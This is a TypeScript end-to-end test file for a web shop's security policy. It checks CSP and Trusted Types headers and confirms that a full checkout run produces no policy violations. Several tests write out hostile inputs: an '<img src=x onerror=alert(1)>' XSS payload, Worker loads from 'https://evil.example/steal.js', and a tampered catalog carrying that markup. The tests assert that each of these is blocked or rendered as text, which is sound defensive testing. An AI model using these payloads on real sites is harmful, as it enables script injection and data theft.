import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createHash } from 'node:crypto';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { launchBrowser } from './support/browser.js';
import { startShop } from './support/server.js';
import type { RunningServer } from '../../src/server/main.js';
import type { CardColumns, CardShardFile, ListingManifest } from '../../src/domain/listing-format.js';
import { addToCart, builtCatalog, checkoutToReview, simpleProduct } from './checkout-helpers.js';

/** Collects every CSP / Trusted Types violation the page reports, from before its first script. */
async function watchViolations(page: Page): Promise<string[]> {
  const seen: string[] = [];
  await page.exposeFunction('reportViolation', (text: string) => seen.push(text));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (e) => {
      void (window as unknown as { reportViolation(t: string): void }).reportViolation(
        `${e.violatedDirective} ${e.blockedURI} ${e.sourceFile}:${e.lineNumber} ${e.sample}`,
      );
    });
  });
  page.on('console', (m) => {
    if (/Content Security Policy|Trusted ?(Type|Script|HTML)|requires .Trusted/i.test(m.text())) seen.push(m.text());
  });
  page.on('pageerror', (e) => seen.push(`pageerror: ${e.message}`));
  return seen;
}

describe('the shop under its security policy', () => {
  const dir = mkdtempSync(join(tmpdir(), 'laden-security-'));
  let shop: RunningServer;
  let browser: Browser;

  beforeAll(async () => {
    shop = await startShop({ orders: { dbPath: join(dir, 'orders.sqlite') } });
    browser = await launchBrowser();
  });
  afterAll(async () => {
    await browser?.close();
    await shop?.close();
    rmSync(dir, { recursive: true, force: true });
  });

  it('sends Trusted Types and the other security headers with every page', async () => {
    const response = await fetch(`${shop.url}/checkout`);
    const csp = response.headers.get('content-security-policy') ?? '';
    expect(csp).toContain("script-src 'self' 'wasm-unsafe-eval'");
    expect(csp).toContain("require-trusted-types-for 'script'");
    expect(csp).toMatch(/trusted-types lit-html\b/);
    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
    expect(response.headers.get('referrer-policy')).toBeTruthy();
    expect(response.headers.get('permissions-policy')).toBeTruthy();
  });

  it('visits every page, orders and searches without a single policy violation', async () => {
    const catalog = builtCatalog();
    const product = simpleProduct(catalog);
    const page = await browser.newPage();
    const violations = await watchViolations(page);
    const visit = async (path: string) => {
      await page.goto(shop.url + path);
      await page.locator('shop-app').waitFor();
      await page.waitForLoadState('networkidle');
    };
    await visit('/');
    await visit(`/c/${catalog.categories[0]!.slug}`);
    await addToCart(page, shop.url, product);
    await visit('/search?q=kaffee');
    await visit('/gibt-es-nicht');
    await visit('/cart');
    await checkoutToReview(page);
    await page.getByRole('button', { name: 'Zahlungspflichtig bestellen' }).click();
    await page.getByRole('heading', { name: 'Bestellung bestätigt' }).waitFor();
    await page.reload();
    await page.waitForLoadState('networkidle');
    await visit('/orders');
    await visit('/wasm');
    await page.getByRole('heading', { level: 1, name: 'WebAssembly in Laden' }).waitFor();
    // The service worker registered (a Trusted Types sink) and controls the page.
    expect(await page.evaluate(async () => Boolean(await navigator.serviceWorker.ready))).toBe(true);
    expect(violations).toEqual([]);

    // The watch does see a violation where there is one: a foreign image is refused and reported.
    await page.evaluate(() => {
      new Image().src = 'https://evil.example/pixel.png';
    });
    await expect.poll(() => violations.some((v) => v.startsWith('img-src https://evil.example/pixel.png'))).toBe(true);
    await page.close();
  });

  it('refuses markup and foreign script URLs at the sinks', async () => {
    const page = await browser.newPage();
    await page.goto(shop.url);
    await page.locator('shop-app').waitFor();
    const refused = await page.evaluate(() => {
      const attempts: [string, () => unknown][] = [
        ['innerHTML', () => (document.body.innerHTML = '<img src=x onerror=alert(1)>')],
        ['foreign worker', () => new Worker('https://evil.example/steal.js')],
        ['own path, foreign origin', () => new Worker('https://evil.example/assets/x.js')],
      ];
      return attempts.map(([name, attempt]) => {
        try {
          attempt();
          return `${name}: allowed`;
        } catch (error) {
          return `${name}: ${(error as Error).name}`;
        }
      });
    });
    expect(refused).toEqual([
      'innerHTML: TypeError',
      'foreign worker: TypeError',
      'own path, foreign origin: TypeError',
    ]);
    await page.close();
  });

  it('renders a product named like markup as text', async () => {
    const catalog = builtCatalog();
    const hostile = '<img src=x onerror=alert(1)>';
    const target = simpleProduct(catalog);
    const tampered = {
      ...catalog,
      products: catalog.products.map((p) =>
        p.id === target.id ? { ...p, title: hostile, description: hostile, brand: hostile } : p,
      ),
    };
    const context = await browser.newContext({ serviceWorkers: 'block' });
    await context.route('**/data/catalog.json', (route) => route.fulfill({ json: tampered }));
    // The product page reads the product from its details bucket in the shipped listing.
    await context.route(/\/data\/shop\/[0-9a-f]{16}\/details\/\d+\.json$/, async (route) => {
      const bucket = (await (await route.fetch()).json()) as { products: { id: string }[] };
      const products = bucket.products.map((p) => tampered.products.find((t) => t.id === p.id) ?? p);
      await route.fulfill({ json: { ...bucket, products } });
    });
    // The cart and the review name it from its card in the listing's shards, which the app checks
    // against the manifest's SHA-256: tamper both, as a hostile catalog would ship them.
    const tamperCards = (cards: CardColumns): CardColumns => ({
      ...cards,
      title: cards.title.map((title, i) => (cards.id[i] === target.id ? hostile : title)),
    });
    const shards = new Map<string, string>();
    await context.route('**/data/shop/manifest.json', async (route) => {
      const manifest = (await (await route.fetch()).json()) as ListingManifest;
      for (const entry of manifest.shards) {
        const shard = (await (
          await fetch(`${shop.url}/data/shop/${manifest.base}${entry.file}`)
        ).json()) as CardShardFile;
        const text = JSON.stringify({ ...shard, cards: tamperCards(shard.cards) });
        shards.set(entry.file, text);
        entry.sha256 = createHash('sha256').update(text).digest('hex').slice(0, 16);
        entry.bytes = Buffer.byteLength(text);
      }
      await route.fulfill({ json: { ...manifest, home: tamperCards(manifest.home) } });
    });
    await context.route(/\/data\/shop\/[0-9a-f]{16}\/cards\/.+\.json$/, async (route) => {
      const file = new URL(route.request().url()).pathname.replace(/^\/data\/shop\/[0-9a-f]{16}\//, '');
      const text = shards.get(file);
      await (text ? route.fulfill({ body: text, contentType: 'application/json' }) : route.continue());
    });
    const page = await context.newPage();
    const violations = await watchViolations(page);
    const dialogs: string[] = [];
    page.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    await page.goto(`${shop.url}/p/${target.slug}`);
    await expect.poll(() => page.getByRole('heading', { level: 1 }).textContent()).toBe(hostile);
    await page.getByRole('button', { name: 'In den Warenkorb' }).click();
    await expect.poll(() => page.getByTestId('cart-count').textContent()).toBe('1');
    await page.goto(`${shop.url}/cart`);
    await checkoutToReview(page);
    expect(await page.getByText(hostile).count()).toBeGreaterThan(0);
    expect(await page.locator('img[src="x"]').count()).toBe(0);
    expect(dialogs).toEqual([]);
    expect(violations).toEqual([]);
    await context.close();
  });
});
